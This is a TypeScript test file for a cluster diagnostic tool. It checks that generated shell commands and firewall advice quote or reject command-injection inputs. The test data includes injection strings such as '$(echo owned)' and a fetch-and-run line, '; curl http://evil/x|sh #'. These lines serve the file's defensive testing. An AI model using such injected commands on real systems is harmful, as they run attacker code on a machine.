import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import firewall from '../../src/doctor/network/firewall.ts';
import { command } from '../../src/shell/sh.ts';
import packageSources from '../../src/steps/packages/package-sources.ts';
import { planStep } from '../support/plan.ts';

const root = join(import.meta.dirname, '../..');
const hostile = ['x;echo owned', '$(echo owned)', '`echo owned`', 'a b', "it's", '"', '-d x|sh #', 'a\nb', '*'];

describe('a command to type', () => {
  for (const word of hostile) {
    it(`quotes ${JSON.stringify(word)} as one word`, () => {
      const text = command`printf [%s] ${word} ${[word, 'x']}`;
      assert.equal(execFileSync('sh', ['-c', text], { encoding: 'utf8' }), `[${word}][${word}][x]`);
    });

    it(`quotes ${JSON.stringify(word)} as one word behind ssh, too`, () => {
      const text = command`ssh -t pi@pi-2 printf [%s] ${word}`;
      // What ssh does: it joins its words with blanks, for the shell on the other side.
      const ssh = 'ssh() { shift 2; sh -c "$*"; }';
      assert.equal(execFileSync('sh', ['-c', `${ssh}\n${text}`], { encoding: 'utf8' }), `[${word}]`);
    });
  }

  it('has such quotes wherever doctor makes the command from an answer of a node', () => {
    const files = globSync('src/doctor/**/*.ts', { cwd: root });
    // These two are words of our own.
    const own = /\$\{(journalCommand\(|distributionOf\(cluster\)\.restartFlannel|rejoin|init)/;
    const found = files.flatMap((file) =>
      [...readFileSync(join(root, file), 'utf8').matchAll(/advice:[^\n]*?(\bcommand)?`([^`]*)`/g)].flatMap(
        ([all, tag, text = '']) =>
          text.includes('${') && tag === undefined && !own.test(text) ? [`${file}: ${all}`] : [],
      ),
    );
    assert.deepEqual(found, []);
  });
});

describe('the advice of a step', () => {
  /** Runs the advice's command where `ssh` is a shell and `sudo` does nothing; returns what it printed. */
  const typed = (hint: string) => {
    const [text] = /ssh \{node\} .*/s.exec(hint) ?? assert.fail(hint);
    const ssh = 'ssh() { shift; sh -c "sudo() { :; }; $*"; }';
    return execFileSync('sh', ['-c', `${ssh}\n${text}`], { encoding: 'utf8' });
  };

  for (const name of ['a;echo${IFS}owned;b.list', 'a|echo${IFS}owned;b.list']) {
    it(`about a file called ${name} runs no part of that name`, () => {
      const silentSources = `== uris\nE: Malformed entry 1 in list file /etc/apt/${name} (URI parse)\n`;
      const [finding] = planStep(packageSources, { silentSources });
      assert.equal(finding?.kind, 'problem');
      assert.doesNotMatch(typed((finding as { hint?: string }).hint ?? ''), /owned/);
    });
  }
});

describe('the check of rules of a firewall', () => {
  const check = firewall.find(({ id }) => id === 'fw.forward')!;
  const judged = (forward: string, flannel = '\n-A FORWARD -j FLANNEL-FWD') =>
    (check as unknown as { judge(view: object): { advice?: string } | undefined }).judge({
      cluster: { podNetwork: '10.244.0.0/16' },
      facts: { forward: `${forward}${flannel}` },
    });

  it('advises a rule that lets only pods pass, and nothing that makes the node route for everybody', () => {
    const advice = judged('-P FORWARD DROP\n-A FORWARD -j DOCKER-USER\n', '')?.advice ?? '';
    assert.match(advice, /-s 10\.244\.0\.0\/16 -j ACCEPT/);
    assert.doesNotMatch(`${advice} ${check.advice}`, /-P /);
  });

  it('advises removing a rule as it is written', () => {
    assert.equal(
      judged('-A FORWARD -s 10.244.0.0/16 -i eth0 -j REJECT --reject-with icmp-port-unreachable')?.advice,
      'ssh {node} sudo iptables -D FORWARD -s 10.244.0.0/16 -i eth0 -j REJECT --reject-with icmp-port-unreachable',
    );
  });

  for (const rest of ['; curl http://evil/x|sh #', ' $(id)', '\u001b[2J', " -m comment --comment 'x'"]) {
    it(`advises nothing about a rule that ends with ${JSON.stringify(rest)}`, () => {
      assert.equal(judged(`-A FORWARD -j DROP${rest}`), undefined);
    });
  }
});
